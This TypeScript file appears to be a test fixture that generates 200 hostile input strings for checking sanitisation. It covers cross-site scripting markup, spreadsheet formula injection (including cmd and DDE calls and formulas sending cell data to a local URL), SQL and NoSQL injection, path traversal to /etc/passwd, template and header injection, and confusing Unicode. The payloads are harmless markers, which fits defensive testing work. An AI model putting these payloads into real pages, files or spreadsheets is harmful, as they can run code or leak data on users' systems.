// Two hundred hostile texts: markup that would run, formulas that a spreadsheet would calculate, and signs that confuse.

/** Leaves a mark in the page when it runs. */
const RUN = 'window.__ran=1';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}">`,
  `<style>@import "http://127.0.0.1:9/x.css";*{display:none}</style>`,
  `<link rel=stylesheet href="http://127.0.0.1:9/x.css">`,
  `<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">`,
  `<base href="http://127.0.0.1:9/">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://`,
  `data:text/html,<script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
];

const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
  'IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
  'WEBSERVICE("http://127.0.0.1:9/")',
  'DDE("cmd","/C calc","x")',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  '"&IMPORTDATA("http://127.0.0.1:9/")',
];
const LEADS = ['=', '+', '-', '@', '\t=', '\r=', '=\t', '＝', '＋', '－', '＠'];

const STRANGE = [
  '\u202egnirts\u202c',
  '\u0000\u0001\u0007\u001b[31mred',
  '\ud83d\ude00'.repeat(40),
  '\u0301'.repeat(100),
  'a'.repeat(300),
  '<'.repeat(300),
  '"","",""\r\n=1+1,"',
  'line\u2028line\u2029line',
  '__proto__',
  'constructor',
  'toString',
  '%00%0d%0aSet-Cookie: x=1',
  '../../../../etc/passwd',
  "'; drop table responses; --",
  '" or 1=1 --',
  '$where: sleep(1000)',
  '{{7*7}}',
  '<%= 7*7 %>',
  '﷽'.repeat(30),
  '\ufeff=1+1',
];

/** In front of markup: what a filter that looks at the first sign would overlook. */
const COVERS = ['', 'x ', '\n'];

/** Texts of all kinds, 200 of them. */
export const payloads: string[] = [
  ...FORMULAS.flatMap((formula) => LEADS.map((lead) => lead + formula)),
  ...STRANGE,
  ...COVERS.flatMap((cover) => MARKUP.map((markup) => cover + markup)),
].slice(0, 200);
